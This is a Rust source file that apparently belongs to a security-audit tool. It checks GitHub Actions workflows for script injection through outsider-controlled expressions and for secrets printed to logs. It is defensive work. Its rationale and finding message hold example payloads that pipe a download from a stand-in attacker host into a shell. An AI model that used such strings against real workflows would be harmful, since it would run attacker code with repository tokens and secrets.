//! Judges whether GitHub Actions scripts expand outsider-controlled expressions
//! (`${{ github.event.issue.title }}` in a `run:` script) or print secrets to the log.

use std::collections::HashSet;

use super::workflows::{at, locate, noun, workflows};
use crate::analyze::workflows::{
    Text, Workflow, WorkflowJob, WorkflowStep, expressions, untrusted_in,
};
use crate::checks::{Check, CheckDef, Context, Outcome};
use crate::model::{Category, Confidence, Effort, Evidence, Severity, plural};

pub const CHECK: Check = Check {
    def: CheckDef {
        id: "security.workflow-injection",
        category: Category::Security,
        title: "No script injection in workflows",
        summary: "No GitHub Actions `run:` (or `actions/github-script`) script expands an outsider-controlled expression such as `${{ github.event.issue.title }}` or `${{ github.head_ref }}`, and no script prints a secret to the log. An expansion is P1 where an outsider's run gets the base repository's token and secrets (`pull_request_target`, comments, issues, `workflow_run`, and local actions that such a workflow uses, that no workflow of the repository uses, or that are published outside `.github/`), and P3 where every trigger (or every workflow using the action) gives a fork's run a read-only token and no secrets.",
        weight: 1.5,
        severity: Severity::P1,
        by_kind: None,
        effort: Effort::S,
        rationale: "`${{ … }}` is expanded into the script text before the shell runs it. A pull request title, issue body, comment or branch name is written by whoever opens it, so `\"; curl evil.sh | sh #` in a title runs on the runner with the job's token and secrets. Printing a secret defeats log masking as soon as it is transformed (base64, a substring) and leaves it in logs everyone with read access can download.",
        remediation: "Pass untrusted values through the environment: `env: TITLE: ${{ github.event.issue.title }}` and use `\"$TITLE\"` in the script (for github-script, read `context.payload` instead). Never echo secrets; write them to files or pipe them to the command that needs them (`--password-stdin`).",
        action: "Pass outsider-controlled values to workflow scripts through env variables, never `${{ }}`",
        risk: "CI compromise",
    },
    evaluate,
};

/// One dangerous line of a script.
struct Hit {
    /// What was found, stable across edits (for the fingerprint).
    key: String,
    /// Text of the file line the finding is about (to find it in folded scalars).
    needle: String,
    line: u32,
    severity: Severity,
    confidence: Confidence,
    title: String,
    message: String,
}

/// True when a shell line prints (and the output goes to the log, not a file or a pipe).
fn prints_to_log(line: &str) -> bool {
    let t = line.trim();
    let first = t.split_whitespace().next().unwrap_or("");
    if !matches!(
        first,
        "echo" | "printf" | "Write-Host" | "Write-Output" | "cat"
    ) {
        return false;
    }
    // `echo "$X" >> $GITHUB_ENV`, `echo "$KEY" | base64 -d > key`, `docker login
    // --password-stdin` all keep the value out of the log.
    // `::add-mask::` hides a value; it does not show it.
    !(t.contains('>') || t.contains('|') || t.contains("::add-mask::"))
}

/// Environment variables (workflow, job, step) whose value comes from a secret.
fn secret_env<'a>(w: &'a Workflow, job: &'a WorkflowJob, step: &'a WorkflowStep) -> Vec<&'a str> {
    w.env
        .iter()
        .chain(&job.env)
        .chain(&step.env)
        .filter(|t| t.value.contains("secrets."))
        .map(|t| t.key.as_str())
        .collect()
}

/// True when a line names `$VAR` or `${VAR}` (not `$VARIABLE`).
fn names_var(line: &str, var: &str) -> bool {
    let mut rest = line;
    while let Some(i) = rest.find('$') {
        let after = rest.get(i + 1..).unwrap_or("");
        let after = after.strip_prefix('{').unwrap_or(after);
        let after = after.strip_prefix("env:").unwrap_or(after);
        if let Some(tail) = after.strip_prefix(var) {
            if !tail.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_') {
                return true;
            }
        }
        rest = after;
    }
    false
}

fn script_hits(
    script: &Text,
    github_script: bool,
    secret_vars: &[&str],
    written: &mut Vec<String>,
) -> Vec<Hit> {
    let mut hits = Vec::new();
    let mut traced = false;
    for (line, text) in &script.lines {
        let t = text.trim();
        // Expressions are expanded before the shell runs, comments included.
        for expr in expressions(text) {
            for ctx in untrusted_in(expr) {
                let fix = if github_script {
                    "Read it from `context.payload` in the script, or set it in `env:` and read `process.env.VALUE`.".to_string()
                } else {
                    format!(
                        "Set it in `env:` (`VALUE: ${{{{ {ctx} }}}}`) and use `\"$VALUE\"` in the script."
                    )
                };
                hits.push(Hit {
                    needle: expr.to_string(),
                    key: ctx.clone(),
                    line: *line,
                    severity: Severity::P1,
                    confidence: Confidence::High,
                    title: format!("`{ctx}` expanded into a script"),
                    message: format!(
                        "`${{{{ {expr} }}}}` is pasted into the script text before it runs, and `{ctx}` is written by whoever opens the issue, pull request or comment or names the branch: a value such as `\"; curl -sSL attacker.example | sh #` runs on the runner with this job's token and secrets. {fix}"
                    ),
                });
            }
        }
        if t.starts_with('#') || t.starts_with("//") {
            continue;
        }
        let secret_expr = expressions(text).iter().any(|e| e.contains("secrets."));
        let secret_var = secret_vars.iter().find(|v| names_var(text, v));
        if prints_to_log(text) {
            let first = t.split_whitespace().next().unwrap_or("");
            if first == "cat" {
                if let Some(f) = written.iter().find(|f| {
                    t.split_whitespace()
                        .skip(1)
                        .any(|w| w.trim_matches(['"', '\'']) == f.as_str())
                }) {
                    hits.push(Hit {
                        needle: t.to_string(),
                        key: format!("cat {f}"),
                        line: *line,
                        severity: Severity::P2,
                        confidence: Confidence::Medium,
                        title: format!("File holding a secret printed to the log (`{f}`)"),
                        message: format!("`{f}` was written from a secret earlier in this job and `cat` prints it to the build log, which everyone with read access to the repository can download. Masking only hides the exact secret string, not a reformatted file. Remove the `cat`."),
                    });
                }
            } else if secret_expr || secret_var.is_some() {
                let what = secret_var
                    .map(|v| format!("`${v}` (set from a secret)"))
                    .unwrap_or_else(|| "a `${{ secrets.… }}` value".to_string());
                hits.push(Hit {
                    needle: t.to_string(),
                    key: format!("print {}", secret_var.unwrap_or(&"secret")),
                    line: *line,
                    severity: Severity::P2,
                    confidence: Confidence::Medium,
                    title: "Secret printed to the workflow log".to_string(),
                    message: format!("This line prints {what} to the build log. GitHub masks the exact string, but not an encoded, split or multi-line form, and logs are downloadable by everyone with read access. Pass the secret to the command that needs it (stdin, a file, an env variable) instead of printing it."),
                });
            }
        }
        if (secret_expr || secret_var.is_some()) && (t.contains('>')) {
            // `echo "${{ secrets.KEY }}" > key.pem`: remember the file.
            if let Some(target) = t
                .rsplit('>')
                .next()
                .and_then(|s| s.split_whitespace().next())
            {
                let target = target.trim_matches(['"', '\'']);
                if !target.is_empty() && !target.contains("GITHUB_") {
                    written.push(target.to_string());
                }
            }
        }
        let tracing = t == "set -x"
            || t.starts_with("set -x ")
            || t.contains("set -o xtrace")
            || (t.starts_with("set -")
                && !t.starts_with("set --")
                && t.split_whitespace()
                    .nth(1)
                    .is_some_and(|f| f.starts_with('-') && f.contains('x')));
        if tracing && !traced && (!secret_vars.is_empty() || script.value.contains("secrets.")) {
            traced = true;
            hits.push(Hit {
                needle: t.to_string(),
                key: "set -x".to_string(),
                line: *line,
                severity: Severity::P3,
                confidence: Confidence::Medium,
                title: "Shell tracing in a script that handles secrets".to_string(),
                message: "`set -x` prints every command after expansion, secrets included, to the build log; masking only hides exact matches. Drop the tracing, or turn it off (`set +x`) around the commands that use secrets.".to_string(),
            });
        }
    }
    hits
}

/// Events that run with the base repository's token and secrets on text an outsider
/// writes (a fork's pull request, an issue, a comment, a merged commit's message).
const PRIVILEGED: &[&str] = &[
    "pull_request_target",
    "issues",
    "issue_comment",
    "discussion",
    "discussion_comment",
    "workflow_run",
    "push",
];

/// The events whose payload holds each outsider-controlled context.
const PAYLOADS: &[(&str, &[&str])] = &[
    ("github.event.workflow_run", &["workflow_run"]),
    ("github.event.issue", &["issues", "issue_comment"]),
    (
        "github.event.comment",
        &[
            "issue_comment",
            "commit_comment",
            "discussion_comment",
            "pull_request_review_comment",
        ],
    ),
    ("github.event.review", &["pull_request_review"]),
    (
        "github.event.discussion",
        &["discussion", "discussion_comment"],
    ),
    ("github.event.head_commit", &["push"]),
    ("github.event.commits", &["push"]),
    (
        "github.event.pull_request",
        &[
            "pull_request",
            "pull_request_target",
            "pull_request_review",
            "pull_request_review_comment",
        ],
    ),
    (
        "github.head_ref",
        &[
            "pull_request",
            "pull_request_target",
            "pull_request_review",
            "pull_request_review_comment",
        ],
    ),
];

/// Whether some trigger of `w` delivers the payload `context` reads. A reusable
/// workflow (`workflow_call`) runs on its caller's event, which may deliver anything;
/// so do contexts this table does not know.
fn delivered(context: &str, w: &Workflow) -> bool {
    if w.trigger("workflow_call").is_some() || w.triggers.is_empty() {
        return true;
    }
    let Some((_, events)) = PAYLOADS.iter().find(|(prefix, _)| {
        context
            .strip_prefix(prefix)
            .is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
    }) else {
        return true;
    };
    w.triggers.iter().any(|(t, _)| events.contains(&t.as_str()))
}

/// The events workflow or local action `w` can run on: its own triggers, and for a
/// reusable workflow (`workflow_call`) or an action (`.github/actions/x/action.yml`)
/// those of the workflows that call or use it (`uses: ./.github/workflows/w.yml`,
/// `uses: ./.github/actions/x`). `None` when that is not known: no workflow of the
/// repository uses the action (it serves other repositories), or the chain is too
/// deep.
fn events_of(w: &Workflow, all: &[Workflow], depth: usize) -> Option<Vec<String>> {
    if depth > 4 {
        return None;
    }
    let mut events: Vec<String> = w
        .triggers
        .iter()
        .map(|(t, _)| t.clone())
        .filter(|t| t != "workflow_call")
        .collect();
    let called = w.is_action || w.trigger("workflow_call").is_some();
    if !called {
        return Some(events);
    }
    // An action outside `.github/` (`action.yml` at the root, `setup-x/action.yml`)
    // is published for other repositories, whatever events its own tests use.
    if w.is_action && !w.path.starts_with(".github/") {
        return None;
    }
    let dir = w.path.rsplit_once('/').map_or("", |(dir, _)| dir);
    let calls = |u: &crate::analyze::workflows::Uses| {
        let target = u.raw.trim_start_matches("./").trim_end_matches('/');
        if w.is_action {
            target == dir
        } else {
            target == w.path
        }
    };
    let callers: Vec<&Workflow> = all
        .iter()
        .filter(|c| !std::ptr::eq(*c, w))
        .filter(|c| {
            c.jobs.iter().any(|j| {
                j.uses.as_ref().is_some_and(calls)
                    || j.steps.iter().any(|s| s.uses.as_ref().is_some_and(calls))
            })
        })
        .collect();
    // A reusable workflow nothing here calls runs on its own other triggers (a
    // manual run); an action nothing here uses serves other repositories.
    if callers.is_empty() {
        return (!w.is_action).then_some(events);
    }
    for c in callers {
        events.extend(events_of(c, all, depth + 1)?);
    }
    Some(events)
}

/// Whether an outsider's text in `context` can reach a run of `w` that holds the base
/// repository's token and secrets: some event `w` runs on is privileged and delivers
/// that payload (a `push` run carries no pull request, so
/// `github.event.pull_request.head.ref` is empty there).
fn open(context: &str, w: &Workflow, all: &[Workflow]) -> bool {
    let Some(events) = events_of(w, all, 0) else {
        return true;
    };
    let payload = PAYLOADS.iter().find(|(prefix, _)| {
        context
            .strip_prefix(prefix)
            .is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
    });
    events.iter().any(|e| {
        PRIVILEGED.contains(&e.as_str())
            && payload.is_none_or(|(_, delivering)| delivering.contains(&e.as_str()))
    })
}

fn evaluate(cx: &Context<'_>) -> Outcome {
    let def = &CHECK.def;
    let all = match workflows(cx) {
        Ok(w) => w,
        Err(o) => return o,
    };
    let mut scripts = 0usize;
    let mut found: Vec<(&Workflow, &WorkflowJob, Hit)> = Vec::new();
    for w in all {
        for job in &w.jobs {
            let mut written: Vec<String> = Vec::new();
            for step in &job.steps {
                let vars = secret_env(w, job, step);
                if let Some(run) = &step.run {
                    scripts += 1;
                    for h in script_hits(run, false, &vars, &mut written) {
                        found.push((w, job, h));
                    }
                }
                let github_script = step
                    .uses
                    .as_ref()
                    .and_then(|u| u.slug())
                    .is_some_and(|s| s == "actions/github-script");
                if let Some(script) = step.with_arg("script").filter(|_| github_script) {
                    scripts += 1;
                    for h in script_hits(script, true, &vars, &mut written) {
                        found.push((w, job, h));
                    }
                }
            }
        }
    }
    // An event's payload is empty in runs of other events: an expression reading a
    // payload no trigger of the workflow delivers expands to nothing.
    found.retain(|(w, _, h)| w.is_action || delivered(&h.key, w));
    // An outsider's text reaches a privileged run only through events that run with
    // the base repository's token and secrets; on `pull_request` a fork's run has a
    // read-only token and no secrets, and manual runs need write access.
    for (w, _, h) in &mut found {
        if h.severity == Severity::P1 && !open(&h.key, w, all) {
            h.severity = Severity::P3;
            h.confidence = Confidence::Medium;
            h.message.push_str(&if w.is_action {
                " Every workflow that uses this action runs on events that give an outsider's run no secrets and a read-only token, or that carry no such value, so this is hygiene, not an open door.".to_string()
            } else {
                format!(
                    " Its triggers ({}) give an outsider's run no secrets and a read-only token, so this is hygiene, not an open door.",
                    w.triggers.iter().map(|(t, _)| t.as_str()).collect::<Vec<_>>().join(", ")
                )
            });
        }
    }
    let files = all.len();
    if found.is_empty() {
        return Outcome::pass(format!(
            "{} in {}: no outsider-controlled expression expanded, no secret printed",
            plural(scripts, "script", "scripts"),
            plural(files, "workflow or action", "workflows and actions")
        ));
    }
    let worst = found
        .iter()
        .map(|(_, _, h)| h.severity)
        .min()
        .unwrap_or(Severity::P3);
    let injections = found
        .iter()
        .filter(|(_, _, h)| h.severity == Severity::P1)
        .count();
    let mut parts = Vec::new();
    if injections > 0 {
        parts.push(format!(
            "{} expanded into scripts",
            plural(
                injections,
                "outsider-controlled expression",
                "outsider-controlled expressions"
            )
        ));
    }
    if found.len() > injections {
        parts.push(format!(
            "{} exposing secrets in the log",
            plural(found.len() - injections, "line", "lines")
        ));
    }
    let summary = parts.join(", ");
    let mut outcome = match worst {
        Severity::P0 | Severity::P1 => Outcome::fail(summary),
        _ => Outcome::partial(0.5, summary),
    };
    let mut seen: HashSet<(String, u32, String)> = HashSet::new();
    for (w, job, h) in found {
        let line = locate(cx, w, h.line, &h.needle);
        if !seen.insert((w.path.clone(), line, h.title.clone())) {
            continue;
        }
        let evidence: Vec<Evidence> = vec![at(cx, w, line)];
        let fingerprint = format!("{}:{}:{}", w.path, job.id, h.key);
        outcome = outcome
            .concern_at(
                def,
                h.severity,
                format!("{} ({} `{}`, job `{}`)", h.title, noun(w), w.path, job.id),
                h.message,
                evidence,
            )
            .confidence(h.confidence)
            .fingerprint(fingerprint);
    }
    outcome
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_a_variable_only_as_a_whole_word() {
        assert!(names_var("echo \"$TOKEN\"", "TOKEN"));
        assert!(names_var("echo ${TOKEN}", "TOKEN"));
        assert!(names_var("echo $env:TOKEN", "TOKEN"));
        assert!(!names_var("echo $TOKENS", "TOKEN"));
        assert!(!names_var("echo TOKEN", "TOKEN"));
    }

    fn script(lines: &[&str]) -> Text {
        Text {
            key: "run".into(),
            key_line: 9,
            value: lines.join("\n"),
            lines: lines
                .iter()
                .enumerate()
                .map(|(i, l)| (10 + i as u32, l.to_string()))
                .collect(),
        }
    }

    #[test]
    fn a_file_written_from_a_secret_and_printed_is_found_at_the_cat() {
        let s = script(&[
            "echo \"${{ secrets.KEY }}\" > key.pem",
            "chmod 600 key.pem",
            "cat key.pem",
        ]);
        let mut written = Vec::new();
        let hits = script_hits(&s, false, &[], &mut written);
        assert_eq!(written, vec!["key.pem".to_string()]);
        assert_eq!(hits.len(), 1);
        assert_eq!((hits[0].line, hits[0].severity), (12, Severity::P2));
    }

    #[test]
    fn tracing_is_reported_once_and_only_with_secrets_around() {
        let s = script(&["set -ex", "deploy --token \"$TOKEN\"", "set -x"]);
        let hits = script_hits(&s, false, &["TOKEN"], &mut Vec::new());
        assert_eq!(hits.len(), 1);
        assert_eq!((hits[0].line, hits[0].severity), (10, Severity::P3));
        assert!(script_hits(&s, false, &[], &mut Vec::new()).is_empty());
    }

    #[test]
    fn printing_into_a_file_or_pipe_is_not_printing_to_the_log() {
        assert!(prints_to_log("echo \"$TOKEN\""));
        assert!(!prints_to_log("echo \"$TOKEN\" >> $GITHUB_ENV"));
        assert!(!prints_to_log(
            "echo \"$TOKEN\" | docker login -u x --password-stdin"
        ));
        assert!(!prints_to_log("curl -H \"$TOKEN\""));
    }
}
